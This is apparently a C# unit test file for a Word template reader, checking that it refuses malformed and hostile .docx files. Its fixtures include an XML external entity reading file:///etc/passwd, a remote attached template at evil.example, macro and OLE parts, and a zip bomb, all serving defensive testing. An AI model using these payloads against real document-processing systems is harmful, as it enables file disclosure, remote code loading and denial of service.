using System.IO.Compression;
using System.Text;
using Xueheng.Reports.Word;
using static Xueheng.Tests.Reports.Docx;

namespace Xueheng.Tests.Reports;

public sealed class HostileTemplateTests
{
    [Fact]
    public void What_is_no_zip_is_refused() => Refused("XH3013", "不是 Word 文档", Encoding.UTF8.GetBytes("这不是 Word 文档"));

    [Fact]
    public void An_empty_file_is_refused() => Refused("XH3013", "不是 Word 文档", []);

    [Fact]
    public void A_cut_off_document_is_refused()
    {
        var whole = Of(P("{{县名}}"));
        Refused("XH3013", "不是 Word 文档", whole[..(whole.Length / 2)]);
    }

    [Fact]
    public void An_old_or_encrypted_document_is_refused() => Refused("XH3012", "旧版 .doc 或者加了密码", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]);

    [Fact]
    public void A_workbook_is_not_a_template() => Refused("XH3013", "不是 Word 文档", Zip(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>")));

    [Fact]
    public void A_zip_bomb_is_refused_before_it_unpacks()
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            Write(zip, "[Content_Types].xml", "<Types/>");
            Write(zip, "word/document.xml", "<document/>");
            using var bomb = zip.CreateEntry("word/media/a.png", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1024 * 1024];
            for (var i = 0; i < 300; i++)
            {
                bomb.Write(zeros);
            }
        }

        Assert.True(stream.Length < 1024 * 1024);
        Refused("XH3014", "解开后超过 200 MB", stream.ToArray());
    }

    [Theory]
    [InlineData("word/vbaProject.bin")]
    [InlineData("word/activeX/activeX1.xml")]
    [InlineData("word/embeddings/oleObject1.bin")]
    public void Macros_and_embedded_programs_are_refused(string part) => Refused("XH3015", part, With(part, "<x/>"));

    [Fact]
    public void A_document_declared_to_carry_macros_is_refused() => Refused(
        "XH3015", "带宏的文档", With("word/x.xml", "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"));

    [Fact]
    public void A_template_fetched_from_elsewhere_is_refused() => Refused(
        "XH3016", "http://evil.example/t.dotm",
        With("word/_rels/settings.xml.rels", "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"));

    [Fact]
    public void An_entity_in_the_xml_is_refused() => Refused(
        "XH3014", "不是有效的 XML", With("word/footnotes.xml", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>"));

    [Fact]
    public void A_document_type_is_refused_even_when_nothing_uses_it() => Refused(
        "XH3014", "不是有效的 XML", With("word/footnotes.xml", "<!DOCTYPE x [<!ENTITY a \"b\">]><x/>"));

    [Fact]
    public void Xml_nested_without_end_is_refused() => Refused(
        "XH3014", "嵌套过深", With("word/footnotes.xml", string.Concat(Enumerable.Repeat("<a>", 5000)) + string.Concat(Enumerable.Repeat("</a>", 5000))));

    [Fact]
    public void Broken_xml_is_refused() => Refused("XH3014", "不是有效的 XML", With("word/footnotes.xml", "<a><b></a>"));

    [Fact]
    public void A_document_without_a_body_is_refused() => Refused("XH3014", "打不开", Zip(("[Content_Types].xml", "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"), ("word/document.xml", "<x/>")));

    private static void Refused(string code, string says, byte[] bytes)
    {
        var read = WordTemplate.Read("坏.docx", bytes);
        Assert.False(read.Succeeded);
        Assert.Equal(code, read.Failure!.Code);
        Assert.Contains(says, read.Failure.Message, StringComparison.Ordinal);
        Assert.Contains("坏.docx", read.Failure.Message, StringComparison.Ordinal);
    }

    private static byte[] With(string part, string content)
    {
        using var stream = new MemoryStream();
        stream.Write(Of(P("{{县名}}")));
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            Write(zip, part, content);
        }

        return stream.ToArray();
    }

    private static byte[] Zip(params (string Name, string Content)[] entries)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                Write(zip, name, content);
            }
        }

        return stream.ToArray();
    }

    private static void Write(ZipArchive zip, string name, string content)
    {
        using var stream = zip.CreateEntry(name).Open();
        stream.Write(Encoding.UTF8.GetBytes(content));
    }
}
